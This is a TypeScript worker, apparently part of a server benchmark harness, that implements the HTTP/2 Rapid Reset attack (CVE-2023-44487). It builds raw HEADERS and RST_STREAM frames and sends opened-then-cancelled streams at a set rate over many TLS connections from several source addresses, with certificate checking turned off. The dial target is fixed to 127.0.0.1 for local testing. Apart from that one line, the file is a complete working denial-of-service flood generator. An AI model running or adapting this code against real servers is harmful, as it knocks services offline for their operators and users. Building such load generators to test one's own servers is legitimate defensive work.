/**
 * Rapid resets (CVE-2023-44487), a process of its own: HTTP/2 connections over TLS that open streams and reset them at once, so that the server begins work for which
 * nobody waits. Frames are bytes that were built before (RFC 9113 §4.1, §6.2, §6.4); the head names its fields by the static table (RFC 7541 appendix A).
 */
import { connect as dial } from "node:net";
import { connect, type TLSSocket } from "node:tls";
import { BUCKET_MS } from "./flood-figures.ts";

export type ResetsAsk =
  | {
      readonly ask: "begin";
      readonly port: number;
      readonly host: string;
      readonly addresses: readonly string[];
      /** Streams a second, all connections together. */
      readonly streamsPerSecond: number;
    }
  | { readonly ask: "end" };
export type ResetsReport = {
  readonly fromMs: number;
  /** Streams that were opened and reset, per BUCKET_MS. */
  readonly counts: readonly number[];
  readonly connections: number;
  readonly goAways: number;
  readonly failures: Readonly<Record<string, number>>;
  readonly cpuMicros: number;
};

const TICK_MS = 10;
const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const GOAWAY = 7;
const END_STREAM_AND_HEADERS = 5;
const CANCEL = 8;
const STREAMS_PER_CONNECTION = 30_000;

const now = (): number => performance.timeOrigin + performance.now();

function frame(
  type: number,
  options: { readonly flags: number; readonly stream: number; readonly payload: Buffer },
): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(options.payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(options.flags, 4);
  head.writeUInt32BE(options.stream, 5);
  return Buffer.concat([head, options.payload]);
}

/** :method GET, :scheme https, :path /, and :authority as a literal that is not indexed. */
const headOf = (host: string): Buffer =>
  Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x01, host.length]), Buffer.from(host, "latin1")]);
const RESET = Buffer.from([0, 0, 0, CANCEL]);

type Connection = { socket: TLSSocket; nextStream: number; isReady: boolean };

function begin(ask: Extract<ResetsAsk, { ask: "begin" }>): () => ResetsReport {
  const fromMs = now();
  const counts: number[] = [];
  const failures: Record<string, number> = {};
  const head = headOf(ask.host);
  const connections: (Connection | undefined)[] = [];
  let opened = 0;
  let goAways = 0;

  const open = (i: number): Connection => {
    opened += 1;
    const under = dial({ host: "127.0.0.1", port: ask.port, localAddress: ask.addresses[i] ?? "" });
    const socket = connect({
      socket: under,
      servername: ask.host,
      ALPNProtocols: ["h2"],
      // The bench's own certificate: who it is from is not what is measured.
      rejectUnauthorized: false,
    });
    const connection: Connection = { socket, nextStream: 1, isReady: false };
    socket.on("secureConnect", () => {
      socket.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
      socket.write(frame(SETTINGS, { flags: 0, stream: 0, payload: Buffer.alloc(0) }));
      connection.isReady = true;
    });
    socket.on("data", (part: Buffer) => {
      // Good enough to see the frame that ends a connection: it comes at the begin of a record.
      if (part.length >= 9 && part[3] === GOAWAY) goAways += 1;
    });
    socket.on("error", (error: NodeJS.ErrnoException) => {
      const why = error.code ?? error.message;
      failures[why] = (failures[why] ?? 0) + 1;
    });
    socket.on("close", () => {
      if (connections[i] === connection) connections[i] = undefined;
    });
    return connection;
  };

  let last = fromMs;
  const timer = setInterval(() => {
    const at = now();
    const each = Math.ceil((Math.min(at - last, 100) / 1000) * (ask.streamsPerSecond / ask.addresses.length));
    last = at;
    for (let i = 0; i < ask.addresses.length; i++) {
      const connection = (connections[i] ??= open(i));
      if (connection.isReady && connection.socket.writableLength < 1e6) rush(connection, each);
    }
  }, TICK_MS);
  const rush = (connection: Connection, streams: number): void => {
    const frames: Buffer[] = [];
    for (let n = 0; n < streams; n++) {
      const stream = connection.nextStream;
      connection.nextStream += 2;
      frames.push(frame(HEADERS, { flags: END_STREAM_AND_HEADERS, stream, payload: head }));
      frames.push(frame(RST_STREAM, { flags: 0, stream, payload: RESET }));
    }
    const bucket = Math.floor((now() - fromMs) / BUCKET_MS);
    while (counts.length <= bucket) counts.push(0);
    counts[bucket] = (counts[bucket] ?? 0) + streams;
    connection.socket.write(Buffer.concat(frames));
    if (connection.nextStream > 2 * STREAMS_PER_CONNECTION) connection.socket.destroy();
  };
  return () => {
    clearInterval(timer);
    for (const connection of connections) connection?.socket.destroy();
    const { user, system } = process.cpuUsage();
    return { fromMs, counts, connections: opened, goAways, failures, cpuMicros: user + system };
  };
}

let end: (() => ResetsReport) | undefined;
process.on("message", (message: ResetsAsk) => {
  if (message.ask === "begin") {
    end = begin(message);
    process.send?.({ begun: true });
  } else process.send?.({ report: end?.() });
});
process.on("disconnect", () => process.exit(0));
